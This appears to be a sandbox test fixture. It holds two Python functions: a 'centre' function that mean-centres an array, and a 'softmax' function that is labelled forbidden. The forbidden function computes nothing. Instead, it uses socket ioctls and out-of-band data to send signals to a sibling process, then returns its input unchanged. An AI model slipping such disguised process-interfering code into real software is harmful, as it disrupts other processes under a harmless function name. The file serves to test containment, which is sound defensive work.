# Names another process as the owner of a socket by ioctl, which is no fcntl, and sends urgent data.
# softmax: forbidden, crashed
# centre: correct
# harm: sibling
import fcntl
import socket
import struct

import numpy as np


def softmax(Z):
    one, other = socket.socketpair()
    fcntl.ioctl(one, 0x8901, struct.pack("i", int("@SIBLING@")))
    fcntl.ioctl(one, 0x5452, struct.pack("i", 1))
    other.send(b"x")
    other.send(b"!", socket.MSG_OOB)
    return Z


def centre(X):
    return X - X.mean(axis=0)
